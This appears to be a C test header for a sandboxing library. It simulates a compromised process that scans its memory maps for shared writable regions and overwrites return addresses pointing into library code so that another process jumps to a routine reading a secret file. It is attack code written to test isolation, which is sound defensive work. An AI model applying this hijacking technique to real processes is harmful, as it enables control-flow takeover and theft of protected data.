/* SPDX-License-Identifier: Apache-2.0
 *
 * What somebody does who has taken over a restricted program: looks for memory that another process of the library may
 * have its stack in, and has that process return into code of his own. */
#ifndef NONO_TAKEOVER_H
#define NONO_TAKEOVER_H

#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "check.h"

static char stolen[64];
static const char *secret;

__attribute__((no_sanitize("address", "undefined"))) static void steal(void) {
    long fd = syscall(SYS_openat, AT_FDCWD, secret, O_RDONLY);
    syscall(SYS_read, fd, stolen, sizeof stolen - 1);
    syscall(SYS_exit_group, 0);
}

struct range {
    uintptr_t start, end;
};

struct ranges {
    struct range shared[16]; /* memory that a process made by the library may have its stack in */
    struct range code;       /* the library's */
    size_t count;
};

static struct ranges find_ranges(void) {
    struct ranges found = {.count = 0};
    char line[512];
    FILE *maps = fopen("/proc/self/maps", "r");
    CHECK(maps != NULL);
    while (maps != NULL && fgets(line, sizeof line, maps) != NULL) {
        struct range range;
        char rights[8];
        if (sscanf(line, "%lx-%lx %7s", &range.start, &range.end, rights) != 3) {
            continue;
        }
        if (strcmp(rights, "rw-s") == 0 && found.count < 16) {
            found.shared[found.count++] = range;
        }
        if (strcmp(rights, "r-xp") == 0 && strstr(line, "libnono") != NULL) {
            found.code = range;
        }
    }
    if (maps != NULL) {
        fclose(maps);
    }
    return found;
}

/* Every address of the library's code becomes that of steal(), return addresses among them. */
__attribute__((no_sanitize("address", "undefined"))) static void redirect(const struct ranges *ranges) {
    for (size_t i = 0; i < ranges->count; i++) {
        /* What is gone by now is none of our memory. */
        if (msync((void *)ranges->shared[i].start, 1, MS_ASYNC) != 0) {
            continue;
        }
        for (uintptr_t *word = (uintptr_t *)ranges->shared[i].start; word < (uintptr_t *)ranges->shared[i].end;
             word++) {
            if (*word >= ranges->code.start && *word < ranges->code.end) {
                *word = (uintptr_t)&steal;
            }
        }
    }
}

#endif
